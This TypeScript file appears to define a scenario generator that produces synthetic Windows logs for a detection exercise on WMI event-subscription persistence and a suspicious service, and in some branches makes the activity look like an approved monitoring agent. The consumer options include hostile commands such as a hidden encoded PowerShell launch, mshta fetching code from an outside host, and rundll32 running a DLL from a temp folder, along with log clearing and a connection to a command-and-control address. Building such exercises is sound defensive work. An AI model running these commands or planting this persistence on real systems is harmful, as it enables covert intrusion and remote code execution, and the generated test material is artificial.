import { closing } from '../../fragments/closing.ts'
import { entry } from '../../fragments/entry.ts'
import { sideFact } from '../../fragments/side-fact.ts'
import { ordinaryWindows } from '../../fragments/ordinary-windows.ts'
import { defineScenario } from '../../scenario.ts'

export default defineScenario({
  risk: 'Persistence via Backdoor Implantation',
  title: 'a subscription to events of the host, and a service',
  clues: [
    'The consumer {name} holds a whole command, not the name of a program.',
    'Filter, consumer and binding are made within seconds by a remote session.',
    'The service made next has a program in a temporary folder and starts by itself.',
    'The deletion of the log lies between the making and the next boot.',
    'After each boot the command runs before anybody logs on.',
  ],
  steps: (story) => {
    const { make, either, pick, whole, chance } = story
    const name = pick('name', [
      'BVTConsumer',
      'DiskWatch',
      'StatusFilter',
      'SCM Event Log',
      'InventoryEvents',
    ])
    const admin = make.user('admin')
    const address = make.insideAddress('from')
    const command = either(
      pick('cmd', [
        'powershell -w hidden -enc SQBFAFgA',
        'mshta http://' + make.outsideHost('o') + '/a',
        'rundll32 C:\\Windows\\Temp\\x.dll,Run',
      ]),
      'C:\\Program Files\\Monitor\\collect.exe /once',
    )
    const service = pick('svc', ['WinDefSync', 'NetTrace', 'MonitorAgent', 'RpcHelper'])
    const program = either(
      'C:\\Windows\\Temp\\' + make.id('t') + '.exe',
      'C:\\Program Files\\Monitor\\agent.exe',
    )
    story.note('name', name)
    const wmi = (event_id: number, kind: string, text: string) =>
      entry(
        'WMI',
        'subscription',
        { event_id, kind, name, text, by_user: either(admin, 'SYSTEM') },
        ['{kind} {name} created by {by_user}: {text}', 'EventID {event_id} {kind} {name} {text}'],
        2,
      )
    return [
      ordinaryWindows(story, 'a', 2),
      entry(
        'Security',
        'logon',
        { event_id: 4624, user: admin, logon_type: either(3, 5), src_ip: either(address, 'none') },
        ['{user} logged on, type {logon_type} from {src_ip}', 'EventID {event_id} {user} {src_ip}'],
      ),
      entry(
        'Sysmon',
        'process',
        {
          event_id: 1,
          image: either('wmiprvse.exe', 'msiexec.exe'),
          parent: either('svchost.exe', 'ccmexec.exe'),
          user: either(admin, 'SYSTEM'),
        },
        ['{parent} -> {image} user={user}', '{image} by {user}'],
      ),
      wmi(
        19,
        '__EventFilter',
        'SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance.SystemUpTime >= 240',
      ),
      wmi(20, either('CommandLineEventConsumer', 'NTEventLogEventConsumer'), command),
      wmi(21, '__FilterToConsumerBinding', `${name} -> ${name}`),
      ordinaryWindows(story, 'b', 1),
      entry(
        'ServiceControl',
        'install',
        {
          event_id: 7045,
          service,
          path: program,
          account: either('LocalSystem', 'NT AUTHORITY\\LocalService'),
          start_type: 'auto',
        },
        [
          'A service was installed: {service} {path} {account} {start_type}',
          'EventID {event_id} {service}: {path}',
        ],
      ),
      entry(
        'Authenticode',
        'signature',
        {
          path: program,
          status: either('NotSigned', 'Valid'),
          signer: sideFact(story, 'signer', 'unlisted', 'Monitor GmbH'),
        },
        ['{path}: {status} ({signer})', 'signature {status} for {path}'],
      ),
      entry(
        'inventory',
        'match',
        {
          service,
          package: sideFact(story, 'package', '-', 'monitor-agent 4.2'),
          approved_by: sideFact(story, 'approved_by', 'unlisted', make.user('ops')),
          result: either('unknown', 'approved'),
        },
        ['{service}: {result}, package {package}', '{package} for {service}, approved by {approved_by}'],
      ),
      entry(
        'EventLog',
        either('clear', 'archive'),
        {
          event_id: either(1102, 1105),
          log: 'Security',
          by_user: either(admin, 'SYSTEM'),
          records: whole('rec', 9000, 90000),
        },
        [
          `log {log} ${either('cleared', 'archived')} by {by_user}, {records} records`,
          'EventID {event_id} {log} {records}',
        ],
      ),
      entry(
        'Firewall',
        'rule',
        {
          event_id: 2004,
          rule: either('allow inbound any', 'allow inbound monitoring'),
          port: either(whole('port', 40000, 60000), 9182),
          by_user: either(admin, 'policy'),
        },
        ['{rule} port {port} by {by_user}', 'rule added: {rule} ({port})'],
      ),
      entry(
        'System',
        'boot',
        { event_id: 6005, uptime_s: 7 },
        ['The event log service was started', 'host up for {uptime_s} s'],
        [2000, 40000],
      ),
      entry(
        'Sysmon',
        'process',
        {
          event_id: 1,
          image: either('powershell.exe', 'agent.exe'),
          parent: either('wmiprvse.exe', 'services.exe'),
          user: either('SYSTEM', 'LocalService'),
        },
        ['{parent} -> {image} user={user}', '{image} by {user}'],
        240,
      ),
      entry(
        'Sysmon',
        'network',
        {
          event_id: 3,
          image: either('powershell.exe', 'agent.exe'),
          dst_ip: either(make.outsideAddress('c2'), make.insideAddress('col')),
          dst_port: 443,
          user: either('SYSTEM', 'LocalService'),
        },
        ['{image} -> {dst_ip}:{dst_port} as {user}', '{dst_ip}:{dst_port} by {image}'],
        9,
      ),
      chance('on', 0.7)
        ? entry(
            'Security',
            'logon',
            { event_id: 4624, user: make.user('u'), logon_type: 2, src_ip: 'local' },
            ['{user} logged on, type {logon_type}', 'EventID {event_id} {user}'],
            [600, 4000],
          )
        : undefined,
      ordinaryWindows(story, 'c', 1),
      closing(story),
    ]
  },
})
